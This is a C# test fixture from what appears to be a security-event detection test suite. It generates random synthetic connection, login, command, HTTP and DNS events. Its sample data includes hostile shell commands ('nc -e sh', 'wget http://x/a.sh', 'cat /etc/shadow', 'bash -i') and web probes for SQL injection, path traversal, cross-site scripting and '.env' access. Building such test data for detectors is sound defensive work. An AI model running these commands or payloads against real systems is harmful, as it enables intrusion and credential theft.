using System.Net;
using static Threat.Features.Tests.Make;

namespace Threat.Features.Tests;

/// <summary>Random events of one source, of every kind, without ids: each counts once.</summary>
internal static class Streams
{
    private static readonly string[] Commands = ["ls -la", "wget http://x/a.sh", "sudo su", "bash -i", "cat /etc/shadow", "chmod 4755 x", "scp a b:c", "echo x; ls; uname -a", "nc -e sh 1 2"];
    private static readonly string[] Targets = ["/", "/a?b=1", "/x?id=1%27%20or%201=1--", "/..%2f..%2f", "/?q=<script>", "/.env", "*", "/%"];

    /// <summary>Events at random times in [T − seconds, T).</summary>
    public static List<SecurityEvent> Random(int seed, int count, double seconds, int hosts = 20, int ports = 40, DateTimeOffset? asOf = null)
    {
        Random r = new(seed);
        DateTimeOffset t = asOf ?? T;
        List<SecurityEvent> events = [];
        int kinds = r.Next(1, 128);
        while (events.Count < count)
        {
            int kind = r.Next(7);
            if ((kinds >> kind & 1) == 0) continue;
            events.Add(One(r, kind, t.AddTicks(-1 - (long)(r.NextDouble() * seconds * TimeSpan.TicksPerSecond)), hosts, ports, t));
        }
        return events;
    }

    /// <summary>A busy day in order of time: connections, logins with many names, requests and commands.</summary>
    public static IEnumerable<SecurityEvent> Busy(int seed, int count, double seconds, int hosts, int ports)
    {
        Random r = new(seed);
        for (int i = 0; i < count; i++) yield return One(r, r.Next(10) switch { < 6 => 0, < 8 => 1, 8 => 4, _ => 2 }, Ago(seconds * (count - i) / count), hosts, ports, T);
    }

    private static SecurityEvent One(Random r, int kind, DateTimeOffset time, int hosts, int ports, DateTimeOffset asOf)
    {
        IPAddress? to = r.Next(12) == 0 ? null : r.Next(4) == 0 ? IPAddress.Parse("8.8.4." + r.Next(hosts) % 250) : Host(r.Next(hosts));
        int? port = r.Next(10) == 0 ? null : r.Next(3) == 0 ? 22 : r.Next(ports);
        return kind switch
        {
            0 => new ConnectionEvent(time, Source)
            {
                Destination = to,
                DestinationPort = port,
                SourcePort = r.Next(9) == 0 ? null : r.Next(1024, 1024 + ports * 20),
                Protocol = (TransportProtocol)(r.Next(3) switch { 0 => 6, 1 => 17, _ => r.Next(60) }),
                Service = r.Next(5) switch { 0 => "ssh", 1 => "http", _ => null },
                State = (ConnectionState)r.Next(14),
                Duration = r.Next(6) == 0 ? null : TimeSpan.FromSeconds(Math.Min(r.Next(90), (asOf - time).TotalSeconds)),
                BytesSent = r.Next(8) == 0 ? null : r.NextInt64(1L << 20),
                BytesReceived = r.Next(8) == 0 ? null : r.NextInt64(1L << 20),
                PacketsSent = r.Next(8) == 0 ? null : r.Next(1, 1000),
                PacketsReceived = r.Next(8) == 0 ? null : r.Next(1000),
                IpBytes = r.Next(8) == 0 ? null : r.NextInt64(1L << 20),
            },
            1 => new AuthenticationEvent(time, Source)
            {
                Destination = to,
                DestinationPort = port,
                Outcome = (EventOutcome)r.Next(3),
                UserName = r.Next(9) == 0 ? null : "u" + r.Next(hosts),
                Credential = r.Next(3) == 0 ? null : Hasher.Hash("u", "p" + r.Next(ports)),
            },
            2 => new CommandEvent(time, Source, Commands[r.Next(Commands.Length)]) { Outcome = (EventOutcome)r.Next(3) },
            3 => new FileTransferEvent(time, Source, (TransferDirection)r.Next(2)) { Resource = r.Next(4) == 0 ? null : "f" + r.Next(9) },
            4 => new HttpRequestEvent(time, Source, r.Next(3) == 0 ? "POST" : "GET", Targets[r.Next(Targets.Length)]) { Destination = to, DestinationPort = port, Host = r.Next(2) == 0 ? "a.example" : null },
            5 => new DnsEvent(time, Source, "a.example") { Destination = to },
            _ => new OtherEvent(time, Source, "alert") { Destination = to, DestinationPort = port },
        };
    }
}
